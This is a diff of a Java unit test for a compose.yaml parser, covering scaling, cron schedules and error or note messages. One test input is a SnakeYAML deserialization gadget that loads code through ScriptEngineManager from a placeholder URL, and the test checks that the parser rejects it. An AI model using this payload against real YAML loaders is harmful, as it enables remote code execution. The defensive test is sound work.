@@ -37,7 +37,8 @@ class ComposeFileTest {
                         "web", new ScaleWish(Optional.of(3), Optional.of(64), Optional.of(0.25)),
                         "worker", new ScaleWish(Optional.of(2), Optional.of(1024), Optional.of(2.0))),
                 says.formation());
-        assertEquals(List.of(), says.faults());
+        assertEquals(List.of(), says.errors());
+        assertEquals(List.of(), says.notes());
     }
 
     @Test
@@ -56,7 +57,8 @@ class ComposeFileTest {
                 """);
         assertEquals(
                 List.of("0 3 * * * bin/rake report 'all of it' 'it'\\''s $HOME'", "@hourly rake tick"), says.crontab());
-        assertEquals(List.of(), says.faults());
+        assertEquals(List.of(), says.errors());
+        assertEquals(List.of(), says.notes());
     }
 
     @Test
@@ -75,28 +77,41 @@ class ComposeFileTest {
     @CsvSource(
             delimiter = '|',
             value = {
-                "services: [|compose.yaml cannot be read",
+                "services: [|compose.yaml is no YAML: ",
+                "'!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x\"]]'|Global tag is not allowed",
                 "services: {web: {build: ., x-cron: nonsense, command: x}}|five fields",
                 "services: {web: {build: ., x-cron: '@daily'}}|no command",
                 "services: {web: {build: ., x-cron: {a: b}}}|neither a schedule nor a list",
                 "services: {web: {image: x, x-cron: '@daily', command: x}}|not built from this source",
                 "services: {web: {build: ./other, x-cron: '@daily', command: x}}|not built from this source",
-                "services: {web: {build: ., deploy: {replicas: many}}}|no number of instances",
+            })
+    void whatMakesNoSenseIsAnError(String text, String error) {
+        var says = parse(text);
+        assertEquals(List.of(), says.crontab());
+        assertTrue(says.errors().getFirst().contains(error), says.errors().toString());
+    }
+
+    @ParameterizedTest
+    @CsvSource(
+            delimiter = '|',
+            value = {
+                "services: {web: {build: ., deploy: {replicas: '${MANY:-2}'}}}|no number of instances",
                 "services: {web: {build: ., mem_limit: much}}|no size",
                 "services: {web: {build: ., mem_limit: 1}}|16 to 4194304",
                 "services: {web: {build: ., cpus: x}}|the scale of web",
-                "'!!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x\"]]'|cannot be read",
+                "services: {web: {build: ., ports: !reset []}}|compose.yaml: the file is not used",
             })
-    void whatMakesNoSenseIsLeftOutAndSaid(String text, String fault) {
+    void whatComposeMayUnderstandBetterIsANote(String text, String note) {
         var says = parse(text);
-        assertEquals(List.of(), says.crontab());
-        assertTrue(says.faults().getFirst().contains(fault), says.faults().toString());
+        assertEquals(Map.of(), says.formation());
+        assertEquals(List.of(), says.errors());
+        assertTrue(says.notes().getFirst().contains(note), says.notes().toString());
     }
 
     @Test
     void whatIsNoComposeFileSaysNothing() {
         for (String text : List.of("", "just a text", "[1, 2]", "a: 1", "services:", "services: {web: }")) {
-            assertEquals(new Declared(Map.of(), List.of(), List.of()), parse(text), text);
+            assertEquals(Declared.NOTHING, parse(text), text);
         }
     }
 
